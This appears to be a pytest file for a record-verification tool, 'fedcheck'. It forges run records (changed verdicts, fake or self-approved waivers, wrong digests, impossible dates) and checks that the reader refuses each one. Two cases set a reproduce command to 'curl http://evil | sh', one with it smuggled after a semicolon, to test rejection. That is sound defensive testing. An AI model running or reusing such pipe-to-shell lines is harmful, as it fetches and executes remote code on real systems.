"""What in a record follows from something else is derived again, not believed."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from datetime import date, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from msgspec.structs import replace

from fedcheck.__main__ import cli
from fedcheck.conformance.counterexamples.confirm import reproduce_command
from fedcheck.conformance.running.progress import watching
from fedcheck.conformance.running.suite import run_suite
from fedcheck.conformance.settings.options import RunOptions
from fedcheck.invariants.vocabulary.errors import DocumentError
from fedcheck.invariants.vocabulary.trace import KernelDescription
from fedcheck.invariants.vocabulary.verdict import Verdict
from fedcheck.reports.record.derivation import not_derivable, underivable
from fedcheck.reports.record.model import (
    Counterexample,
    RequirementSet,
    RunRecord,
    WaiverResult,
)
from fedcheck.reports.record.outcome import exit_code, summarise
from fedcheck.reports.record.reader import read_record
from fedcheck.reports.record.record_parts import Setting
from fedcheck.reports.record.seal import Seal, encode_line
from fedcheck.reports.record.writer import write_record

from .bundles import foreign_record, small_record

Forgery = Callable[[RunRecord], RunRecord]


def with_clause(seen: Verdict, **fields: Any) -> Forgery:
    """Return what changes the first clause of a verdict."""

    def forged(record: RunRecord) -> RunRecord:
        at = next(n for n, each in enumerate(record.clauses) if each.verdict is seen)
        changed = replace(record.clauses[at], **fields)
        return replace(record, clauses=(*record.clauses[:at], changed, *record.clauses[at + 1 :]))

    return forged


def with_header(**fields: Any) -> Forgery:
    """Return what changes the header."""
    return lambda record: replace(record, header=replace(record.header, **fields))


def without_the_failed(record: RunRecord) -> RunRecord:
    """The failed clause was never selected."""
    (failed,) = (each.clause for each in record.clauses if each.verdict is Verdict.FAIL)
    header = record.header
    selected = tuple(name for name in header.selected if name != failed)
    return replace(
        record,
        header=replace(header, selected=selected),
        clauses=tuple(each for each in record.clauses if each.clause != failed),
        counterexamples=(),
    )


def waived(record: RunRecord, **fields: Any) -> RunRecord:
    """The failure is covered by a waiver that nobody wrote."""
    (failed,) = (each for each in record.clauses if each.verdict is Verdict.FAIL)
    last = date.fromisoformat(record.header.started[:10]) + timedelta(days=30)
    told = {
        "id": "W-1",
        "clause": failed.clause,
        "fingerprint": record.counterexamples[0].kind,
        "kernel": record.header.kernel.kernel,
        "reason": "later",
        "requested_by": "a@example.net",
        "approved_by": "b@example.net",
        "ticket": "T-1",
        "expires": last.isoformat(),
        "state": "applied",
        "days_left": 30,
        "versions": "*",
    }
    waiver = WaiverResult(**{**told, **fields})
    change = {"effective": Verdict.WAIVED, "waiver": waiver.id}
    asked = Setting(value=[{"id": waiver.id, "clause": waiver.clause}], source="call")
    record = with_header(configuration={**record.header.configuration, "waivers": asked})(record)
    return replace(with_clause(Verdict.FAIL, **change)(record), waivers=(waiver,))


def as_if_replayed(record: RunRecord, **fields: Any) -> RunRecord:
    """Likewise, and the counterexample is said to be the waiver's."""
    example = replace(record.counterexamples[0], found_in="waiver:W-1")
    return waived(replace(record, counterexamples=(example,)), **fields)


def with_example(change: Callable[[Counterexample], dict[str, Any]]) -> Forgery:
    """Return what changes the first counterexample, which keeps its id."""

    def changed(record: RunRecord) -> RunRecord:
        first, *others = record.counterexamples
        return replace(record, counterexamples=(replace(first, **change(first)), *others))

    return changed


def _later(record: RunRecord, days: int) -> str:
    """Return a day so long after the run."""
    return (date.fromisoformat(record.header.started[:10]) + timedelta(days=days)).isoformat()


SET = '{"name":"NAME","title":"","clauses":[]}'
PACKAGE_SET = SET.replace("NAME", "seeds-2026-11")


def with_set(record: RunRecord, *texts: str) -> RunRecord:
    """Return a record under a requirement set of these texts, whose digest fits the first."""
    digest = hashlib.sha256(texts[0].encode()).hexdigest()
    name = json.loads(texts[0])["name"]
    told = RequirementSet(name=name, digest=digest, files=texts)
    return with_header(requirement_set=told)(record)


GREEN = {"verdict": Verdict.PASS, "effective": Verdict.PASS, "reason": ""}
UNCLAIMED = KernelDescription(kernel="mutant:key-end-unchecked", version="1.0")
FORGERIES: dict[str, tuple[Forgery, str]] = {
    "its counterexample stays": (with_clause(Verdict.FAIL, **GREEN), "evidence makes it fail"),
    "only what counts is changed": (
        with_clause(Verdict.FAIL, effective=Verdict.PASS),
        "what counts is pass, verdict and waivers make it fail",
    ),
    "the clause is no longer required": (
        with_clause(Verdict.FAIL, required=False),
        "required is not what the requirement set says",
    ),
    "the clause is only a SHOULD": (
        with_clause(Verdict.FAIL, level="SHOULD"),
        "level is not that of the catalog",
    ),
    "the clause says something else": (
        with_clause(Verdict.FAIL, sentence="Anything goes."),
        "sentence is not that of the catalog",
    ),
    "a class of input is no longer needed": (
        with_clause(Verdict.PASS, classes={}),
        "classes is not that of the catalog",
    ),
    "a class of input was not seen": (
        with_clause(Verdict.PASS, partitions={}),
        "told as missing are not those that are",
    ),
    "nothing was compared": (
        with_clause(Verdict.PASS, comparisons=0, partitions={}, missing_partitions=("plain",)),
        "the verdict is pass|told as missing",
    ),
    "the failed clause was never selected": (without_the_failed, "are not those of the catalog"),
    "the kernel claims nothing": (with_header(kernel=UNCLAIMED), "evidence makes it not_claimed"),
    "a deviation is told": (with_header(deviations={"window": (5, 20)}), "it tells the deviations"),
    "an ignored clause is told": (with_header(ignored=("C-STORE-ISOLATION/per-user",)), "ignored"),
    "a waiver without a replay": (waived, "its counterexample is not in the record"),
    "a waiver of another kernel": (lambda r: as_if_replayed(r, kernel="k"), "for another kernel"),
    "a waiver that its asker approved": (
        lambda r: as_if_replayed(r, approved_by="a@example.net"),
        "who asked for it approved it",
    ),
    "a waiver that has ended": (
        lambda r: as_if_replayed(r, expires="2020-01-01"),
        "days_left is 30",
    ),
    "a waiver that its asker approved in capitals": (
        lambda r: as_if_replayed(r, approved_by="Bob <A@Example.net>"),
        "who asked for it approved it",
    ),
    "a waiver of nobody": (
        lambda r: as_if_replayed(r, approved_by="Bob"),
        "who asked for it or approved it has no address",
    ),
    "a waiver for years": (
        lambda r: as_if_replayed(r, expires=_later(r, 367), days_left=367),
        "it ends later than any may",
    ),
    "a waiver that nobody asked for": (
        lambda r: replace(as_if_replayed(r), header=r.header),
        r"it judged the waivers \['W-1'\], its settings make them \[\]",
    ),
    "a stale waiver that is taken out": (
        lambda r: replace(r, header=as_if_replayed(r).header),
        r"it judged the waivers \[\], its settings make them \['W-1'\]",
    ),
    "a waiver of other versions": (
        lambda r: as_if_replayed(r, versions="<0.0.1"),
        "it is for other versions",
    ),
    "a waiver of versions that nobody can read": (
        lambda r: as_if_replayed(r, versions="garbage"),
        "it is for other versions",
    ),
    "a counterexample that causes itself": (
        with_example(lambda x: {"cause": x.id}),
        "its cause is no other counterexample",
    ),
    "a cause that is prose": (
        with_example(lambda _: {"cause": "somebody else"}),
        "its cause is no other counterexample",
    ),
    "a failure at a step that there is not": (
        with_example(lambda x: {"violation": replace(x.violation, step=77)}),
        "its scenario has no such step",
    ),
    "a trace of another kernel": (
        with_example(
            lambda x: {"trace": replace(x.trace, kernel=replace(x.trace.kernel, version="9"))}
        ),
        "its trace is of another kernel",
    ),
    "a command of somebody else": (
        with_example(lambda _: {"command": "curl http://evil | sh"}),
        "what reproduces it is no command of fedcheck",
    ),
    "two commands in one": (
        with_example(lambda _: {"command": "fedcheck run --kernel k; curl http://evil | sh"}),
        "what reproduces it is no command of fedcheck",
    ),
    "a failure found in a waiver that there is not": (
        with_example(lambda _: {"found_in": "waiver:W-7"}),
        "the waiver that it was found in is not in the record",
    ),
    "a waiver without a ticket": (
        lambda r: as_if_replayed(r, ticket=" "),
        "it has no reason or no ticket",
    ),
    "a failure that nobody repeated": (
        with_example(lambda _: {"attempts": 0, "reproduced": 0}),
        "nobody repeated it",
    ),
    "a run that ended before it began": (
        lambda r: replace(r, summary=replace(r.summary, finished="2019-01-01T00:00:00Z")),
        "it was finished before it was started",
    ),
    "an embedded kernel of another name": (
        lambda r: with_header(kernel=replace(r.header.kernel, kernel="acme-kernel"))(r),
        "an embedded kernel is called acme-kernel",
    ),
    "a counterexample of another name": (
        lambda r: replace(r, counterexamples=(replace(r.counterexamples[0], kind="k"),)),
        "is not what its name says",
    ),
    "a protection that an embedded kernel does not have": (
        lambda r: replace(r, summary=replace(r.summary, protection="pid-namespace")),
        "protection is pid-namespace, which its transport and settings do not allow",
    ),
    "a requirement set without its clauses": (
        lambda r: with_header(requirement_set=replace(r.header.requirement_set, files=()))(r),
        "the requirement set in its header cannot be read",
    ),
    "a requirement set of other clauses": (
        lambda r: with_header(
            requirement_set=replace(
                r.header.requirement_set,
                files=('{"name":"seeds-2026-11","title":"","clauses":[]}',),
            )
        )(r),
        "requirement set seeds-2026-11: its text is not that of the set of this name",
    ),
    "a requirement set of the same name with a digest of its own": (
        lambda r: with_set(r, SET.replace("NAME", "seeds-2026-11")),
        "requirement set seeds-2026-11: its text is not that of the set of this name",
    ),
    "a requirement set that extends another of that name": (
        lambda r: with_set(
            r, SET.replace("NAME", "own").replace("[]", '[],"extends":"seeds-2026-11"'), PACKAGE_SET
        ),
        "requirement set seeds-2026-11: its text is not that of the set of this name",
    ),
    "a requirement set with the digest of another": (
        with_header(
            requirement_set=RequirementSet(
                name="own", digest="0" * 64, files=(SET.replace("NAME", "own"),)
            )
        ),
        "digest of the requirement set is not that",
    ),
    "the sentences that a clause judges": (
        with_clause(Verdict.PASS, sentences={"FL-1": "Anything goes."}),
        "sentences is not that of the catalog",
    ),
    "compared without being claimed": (
        lambda r: with_clause(
            Verdict.FAIL,
            **dict.fromkeys(("verdict", "effective"), Verdict.NOT_CLAIMED),
            counterexamples=(),
        )(with_header(kernel=UNCLAIMED)(replace(r, counterexamples=()))),
        "it is not claimed, and something was compared",
    ),
    "compared in no scenario": (
        with_clause(Verdict.PASS, scenarios=0),
        "something was compared, in no scenario",
    ),
    "fewer comparisons than in one class": (
        with_clause(Verdict.FAIL, comparisons=1),
        "a class of input was compared more often than anything was",
    ),
    "another way to the kernel": (
        with_header(transport="exec"),
        "the kernel was reached by exec, its reference makes it embedded",
    ),
    "a day that is none": (with_header(started="2026-99-99T00:00:00Z"), "which is no moment"),
    "another test of the suite": (
        lambda r: replace(r, qualification=replace(r.qualification, tolerated=("all",))),
        "how the suite was tested is not what this suite says of itself",
    ),
}


def forged(change: Forgery, record: RunRecord | None = None) -> RunRecord:
    """Return a record, changed, with a summary that fits what was changed."""
    record = change(record or small_record())
    code = exit_code(
        record.clauses, record.header.deviations, record.waivers, record.header.unclaimed
    )
    finished, protection = record.summary.finished, record.summary.protection
    return replace(
        record,
        summary=summarise(record.clauses, exit_code=code, finished=finished, protection=protection),
    )


@pytest.mark.parametrize("name", FORGERIES)
def test_a_changed_record_is_refused(name: str, tmp_path: Path) -> None:
    """Counts, exit code and footer fit what was changed, and still it does not follow."""
    change, told = FORGERIES[name]
    path = tmp_path / "run.ndjson"
    write_record(path, forged(change))
    with pytest.raises(DocumentError, match=told):
        read_record(path)


def test_an_exit_code_that_does_not_follow_is_refused(tmp_path: Path) -> None:
    """Whatever the verdicts are."""
    record = small_record()
    path = tmp_path / "run.ndjson"
    write_record(path, replace(record, summary=replace(record.summary, exit_code=0)))
    with pytest.raises(DocumentError, match="exit code is 0, its verdicts make it 1"):
        read_record(path)


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        (b'"type":"clause"', b'"type":"clause","zzz":1', "holds other fields than this"),
        (b'"type":"summary"', b'"approved":true,"type":"summary"', "holds other fields than this"),
        (b"\n{", b"\nQUALIFICATION{", "says twice how the suite was tested"),
    ],
)
def test_lines_that_nobody_wrote_are_refused(
    tmp_path: Path, old: bytes, new: bytes, told: str
) -> None:
    """A field that no report shows, and a line of which they show the first."""
    path = tmp_path / "run.ndjson"
    write_record(path, small_record())
    lines = path.read_bytes().splitlines(keepends=True)[:-1]
    (tested,) = (line for line in lines if b'"type":"qualification"' in line)
    text = b"".join(lines).replace(old, new.replace(b"QUALIFICATION", tested), 1)
    seal = Seal()
    for line in text.splitlines(keepends=True):
        seal.add(line)
    path.write_bytes(text + encode_line(seal.footer()))
    with pytest.raises(DocumentError, match=told):
        read_record(path)


@cache
def judged(kernel: str) -> RunRecord:
    """Return the record of a whole gate without exploration."""
    with watching(None) as observer:
        return run_suite(RunOptions(kernel=kernel, examples=0, plugins=False), observer)


@pytest.mark.parametrize("kernel", ["reference", "mutant:emails-shown", "style:audit-in-own-words"])
def test_what_a_run_says_follows(kernel: str) -> None:
    """Nothing that the suite itself writes is taken for a forgery."""
    record = judged(kernel)
    assert "" == not_derivable(record)
    assert [] == list(underivable(record))


def test_a_replayed_waiver_follows() -> None:
    """Its state, its last day and its counterexample fit."""
    assert [] == list(underivable(forged(as_if_replayed)))


def test_a_record_of_another_suite_is_neither_refused_nor_believed(
    tmp_path: Path, key_files: tuple[Path, Path]
) -> None:
    """It is rendered and packed with exit code 3, and not signed."""
    secret, _ = key_files
    path, target = tmp_path / "run.ndjson", tmp_path / "evidence.zip"
    write_record(path, foreign_record())
    commands = {
        ("report", str(path)): True,
        ("bundle", str(path), "-o", str(target), "--format", "tap"): True,
        ("verify", str(target)): True,
        ("sign", str(path), "--key", str(secret)): False,
        ("bundle", str(path), "-o", str(tmp_path / "x"), "--key", str(secret)): False,
    }
    for words, made in commands.items():
        result = CliRunner().invoke(cli, words)
        assert (3, True) == (result.exit_code, "not derivable: fedcheck 0.1.0" in result.stderr)
        assert made == bool(result.stdout)
    assert {path, target} == set(tmp_path.glob("[er]*.[zn]*"))


def test_plugins_that_are_not_here_leave_it_underivable() -> None:
    """The catalog is another one."""
    record = with_header(catalog_digest="0" * 64)(small_record())
    assert "with other plug-ins (none) than are installed here" in not_derivable(record)


def test_a_kernel_in_our_process_is_no_evidence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key_files: tuple[Path, Path]
) -> None:
    """It is judged as ever, and nobody packs or signs it; a record that hides it is refused."""
    monkeypatch.syspath_prepend(str(tmp_path))
    (tmp_path / "roomy.py").write_text(
        "class Kernel:\n    def cache_set(self, step):\n        raise ValueError\n", "utf-8"
    )
    asked = RunOptions(
        kernel="roomy:Kernel", select=("I-CACHE-KEY-SAFETY",), examples=0, in_process=True
    )
    with watching(None) as observer:
        record = run_suite(asked, observer)
    path = tmp_path / "run.ndjson"
    write_record(path, record)
    assert "none" == read_record(path).header.evidence
    for words in (
        ("bundle", str(path), "-o", str(tmp_path / "e.zip")),
        ("sign", str(path), "--key", str(key_files[0])),
    ):
        refused = CliRunner().invoke(cli, words).exception
        assert "the record is no evidence" in str(refused)
    write_record(path, with_header(evidence="seen")(record))
    with pytest.raises(DocumentError, match="evidence is seen"):
        read_record(path)


@pytest.mark.parametrize("words", [("bundle", "r.ndjson", "-o", "e.zip"), ("verify", "e.zip")])
def test_an_empty_name_of_a_key_is_no_key(words: tuple[str, ...], tmp_path: Path) -> None:
    """A variable that is not set must not make a signature optional."""
    files = [str(tmp_path / word) if "." in word else word for word in words]
    result = CliRunner().invoke(cli, [*files, "--key", ""])

    assert 2 == result.exit_code
    assert "it is empty; name a file, or env:NAME" in result.stderr


def test_a_command_for_any_kernel_is_ours() -> None:
    """Whatever stands in the kernel's reference, and whatever of it is masked."""
    record = small_record()
    references = ("exec:sh -c 'a && b'", "exec:k --key 'x;y' | z", "http://h/?a=1&b=$c", "exec:k>c")
    commands = [reproduce_command(RunOptions(kernel=each), "C-X/y") for each in references]
    told = [
        replace(record, counterexamples=(replace(record.counterexamples[0], command=command),))
        for command in commands
    ]

    assert [[]] * len(references) == [list(underivable(each)) for each in told]
